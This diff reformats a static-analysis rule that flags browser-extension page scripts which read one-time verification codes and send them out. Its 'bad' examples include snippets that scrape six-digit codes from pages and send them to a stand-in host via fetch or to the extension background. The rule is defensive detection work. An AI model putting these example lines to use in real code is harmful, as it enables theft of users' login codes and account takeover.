@@ -23,24 +23,39 @@ export const oneTimeCodesRead = defineRule({
   remedy: 'Fill a code in where it is needed, on the device; never send it.',
   check: checkScripts(function* ({ script, file, facts, hit }) {
     if (!runsInPages(facts, file.path) || !sendingsOf(script).some(({ kind }) => kind !== 'storage')) return;
-    const forms = new Set([...expressionsOf(script), ...textsOf(script)].filter(({ text }) => text.length < 400 && CODE.test(text)).map(({ value }) => value));
+    const forms = new Set(
+      [...expressionsOf(script), ...textsOf(script)]
+        .filter(({ text }) => text.length < 400 && CODE.test(text))
+        .map(({ value }) => value),
+    );
     if (forms.size === 0) return;
     for (const call of few(callsNamed(script, 'match', 'exec', 'matchAll'), 200)) {
-      const by = [call.args[0] ?? 0, receiverOf(script, call)].some((value) => [...originsOf(script, value)].some((one) => forms.has(one)));
+      const by = [call.args[0] ?? 0, receiverOf(script, call)].some((value) =>
+        [...originsOf(script, value)].some((one) => forms.has(one)),
+      );
       if (!by) continue;
       const out = leavesBy(script, new Set([call.value]), ['network', 'message']);
       if (out?.kind === 'network') yield hit(call.value, { message: `They are sent to ${out.to}.` });
-      else if (out?.kind === 'message') yield hit(call.value, { severity: 'medium', message: 'They are handed to the background.' });
+      else if (out?.kind === 'message')
+        yield hit(call.value, { severity: 'medium', message: 'They are handed to the background.' });
     }
   }),
   examples: {
     bad: [
-      contentExample('setInterval(() => { for (const row of document.querySelectorAll("tr")) { const m = row.innerText.match(/(?:code|OTP|verification)[^0-9]{0,40}(\\d{6})/i); if (m) chrome.runtime.sendMessage({ code: m[1] }); } }, 2000);'),
-      contentExample('const m = /one-time code: (\\d{6})/.exec(document.body.innerText); if (m) fetch("https://x.example/o?c=" + m[1]);'),
+      contentExample(
+        'setInterval(() => { for (const row of document.querySelectorAll("tr")) { const m = row.innerText.match(/(?:code|OTP|verification)[^0-9]{0,40}(\\d{6})/i); if (m) chrome.runtime.sendMessage({ code: m[1] }); } }, 2000);',
+      ),
+      contentExample(
+        'const m = /one-time code: (\\d{6})/.exec(document.body.innerText); if (m) fetch("https://x.example/o?c=" + m[1]);',
+      ),
     ],
     good: [
-      contentExample('const m = /verification code (\\d{6})/i.exec(document.body.innerText); if (m) document.querySelector("[autocomplete=one-time-code]").value = m[1];'),
-      contentExample('const zip = /postcode[: ]+(\\d{5})/i.test(text); const m = document.title.match(/(\\d{6})/); if (m) chrome.runtime.sendMessage({ order: m[1], zip });'),
+      contentExample(
+        'const m = /verification code (\\d{6})/i.exec(document.body.innerText); if (m) document.querySelector("[autocomplete=one-time-code]").value = m[1];',
+      ),
+      contentExample(
+        'const zip = /postcode[: ]+(\\d{5})/i.test(text); const m = document.title.match(/(\\d{6})/); if (m) chrome.runtime.sendMessage({ order: m[1], zip });',
+      ),
     ],
   },
 });
